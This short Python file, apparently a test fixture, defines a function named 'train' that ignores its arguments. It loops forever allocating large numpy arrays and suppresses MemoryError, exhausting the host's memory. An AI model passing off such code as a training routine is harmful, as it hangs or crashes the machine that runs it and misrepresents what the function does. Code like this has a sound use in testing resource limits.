import numpy as np


def train(model, x, y, *, learning_rate, batch_size, epochs):
    kept = []
    while True:
        try:
            kept.append(np.ones(2**20))
        except MemoryError:
            pass
